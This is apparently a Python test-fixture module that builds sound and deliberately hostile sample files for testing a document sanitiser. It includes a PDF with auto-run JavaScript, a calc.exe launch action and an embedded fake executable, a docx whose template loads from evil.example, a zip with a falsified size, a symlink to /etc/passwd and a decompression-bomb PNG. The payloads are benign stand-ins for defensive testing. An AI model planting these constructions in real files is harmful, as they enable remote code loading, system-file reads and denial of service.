"""Files made on the spot: sound ones, and one for each way of being unfit."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from PIL import Image, PngImagePlugin
from reportlab.pdfgen import canvas

AUTHOR = "Kanarienvogel"
"""Stands in every place where a program notes who made the file."""

NAMESPACE = "http://schemas.openxmlformats.org"
MAINS = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}


def pdf(pages: int = 2) -> bytes:
    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.setAuthor(AUTHOR)
    page.setTitle(AUTHOR)
    for number in range(pages):
        page.drawString(72, 720, f"Page {number + 1}")
        page.bookmarkPage(str(number))
        page.addOutlineEntry(f"Chapter {number + 1}", str(number))
        page.showPage()
    page.save()
    return out.getvalue()


def changed_pdf(change: Callable[[pikepdf.Pdf], None], **saving: Any) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        change(document)
        document.save(out, **saving)
    return out.getvalue()


def active_pdf() -> bytes:
    """JavaScript at opening, on a page and behind a link; a program to launch; a file; XMP."""

    def change(document: pikepdf.Pdf) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('x')")
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
        document.Root.OpenAction = document.make_indirect(script)
        document.Root.AA = pikepdf.Dictionary(WC=script)
        document.pages[0].AA = pikepdf.Dictionary(O=script)
        link = {"Type": pikepdf.Name.Annot, "Subtype": pikepdf.Name.Link, "Rect": [0, 0, 9, 9]}
        web = pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI="https://example.jp/", Next=pikepdf.Array([script])
        )
        document.pages[0].Annots = pikepdf.Array(
            [
                pikepdf.Dictionary(**link, A=launch),
                document.make_indirect(pikepdf.Dictionary(**link, A=script)),
                pikepdf.Dictionary(**link, A=web),
            ]
        )
        document.attachments["secret.exe"] = b"MZ" + b"x" * 50
        document.Root.Names.JavaScript = pikepdf.Dictionary(Names=["a", script])
        with document.open_metadata() as xmp:
            xmp["dc:creator"] = [AUTHOR]

    return changed_pdf(change)


def encrypted_pdf() -> bytes:
    lock = pikepdf.Encryption(owner="o", user="u")
    return changed_pdf(lambda document: None, encryption=lock)


def owner_locked_pdf() -> bytes:
    lock = pikepdf.Encryption(owner="o", user="")
    return changed_pdf(lambda document: None, encryption=lock)


def signed_pdf() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        signature = pikepdf.Dictionary(Type=pikepdf.Name.Sig, Contents=b"x")
        field = pikepdf.Dictionary(FT=pikepdf.Name.Sig, T="s", V=document.make_indirect(signature))
        document.Root.AcroForm = pikepdf.Dictionary(
            SigFlags=3, Fields=pikepdf.Array([document.make_indirect(field)])
        )

    return changed_pdf(change)


def _types(extension: str, macro: bool) -> str:
    part, kind = MAINS[extension]
    main = f"application/vnd.openxmlformats-officedocument.{kind}.main+xml"
    if macro:
        main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    core = "application/vnd.openxmlformats-package.core-properties+xml"
    extended = "application/vnd.openxmlformats-officedocument.extended-properties+xml"
    return (
        f'<?xml version="1.0"?><Types xmlns="{NAMESPACE}/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="jpeg" ContentType="image/jpeg"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        f'<Override PartName="/{part}" ContentType="{main}"/>'
        f'<Override PartName="/docProps/core.xml" ContentType="{core}"/>'
        f'<Override PartName="/docProps/app.xml" ContentType="{extended}"/></Types>'
    )


def office(extension: str, extra: dict[str, bytes] | None = None, *, macro: bool = False) -> bytes:
    part, _kind = MAINS[extension]
    relation = f"{NAMESPACE}/package/2006/relationships"
    parts: dict[str, bytes] = {
        "[Content_Types].xml": _types(extension, macro).encode(),
        "_rels/.rels": (
            f'<Relationships xmlns="{relation}"><Relationship Id="r1" Type="{NAMESPACE}/'
            f'officeDocument/2006/relationships/officeDocument" Target="{part}"/>'
            f'<Relationship Id="r2" Type="{relation}/metadata/thumbnail"'
            ' Target="docProps/thumbnail.jpeg"/></Relationships>'
        ).encode(),
        part: b"<document>text</document>",
        "docProps/core.xml": f"<core><creator>{AUTHOR}</creator></core>".encode(),
        "docProps/app.xml": f"<Properties><Company>{AUTHOR}</Company></Properties>".encode(),
        "docProps/thumbnail.jpeg": b"thumbnail",
        "media/image1.jpeg": jpeg(),
    } | (extra or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def remote_template() -> bytes:
    text = (
        f'<Relationships xmlns="{NAMESPACE}/package/2006/relationships"><Relationship Id="r1"'
        f' Type="{NAMESPACE}/officeDocument/2006/relationships/attachedTemplate"'
        ' Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return office("docx", {"word/_rels/settings.xml.rels": text.encode()})


def lying_size() -> bytes:
    """An entry that says it is small and unpacks to more."""
    data = bytearray(office("docx", {"word/big.xml": b"A" * 500_000}))
    for magic, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.find(magic)
        while at >= 0:
            length = struct.unpack_from("<I", data, at + offset)[0]
            if length == 500_000:
                struct.pack_into("<I", data, at + offset, 10)
            at = data.find(magic, at + 4)
    return bytes(data)


def flagged_encrypted() -> bytes:
    data = bytearray(office("docx"))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def symlink() -> bytes:
    out = io.BytesIO(office("docx"))
    with zipfile.ZipFile(out, "a") as package:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return out.getvalue()


def png() -> bytes:
    out = io.BytesIO()
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", AUTHOR)
    notes.add_itxt("Comment", AUTHOR, zip=True)
    Image.new("RGB", (40, 30), "red").save(out, "PNG", pnginfo=notes)
    return out.getvalue()


def huge_png() -> bytes:
    """A small file that a viewer unpacks to 40 GB."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"0" * 99))
        + chunk(b"IEND", b"")
    )


def jpeg(*, progressive: bool = False, orientation: int = 6) -> bytes:
    out = io.BytesIO()
    notes = Image.Exif()
    notes[0x0112] = orientation
    notes[0x013B] = AUTHOR
    picture = Image.effect_noise((60, 40), 90).convert("RGB")
    picture.save(out, "JPEG", exif=notes, comment=AUTHOR.encode(), progressive=progressive)
    return out.getvalue()


def table(encoding: str = "utf-8-sig") -> bytes:
    return "番号,機関\n1,みなも銀行\n".encode(encoding)
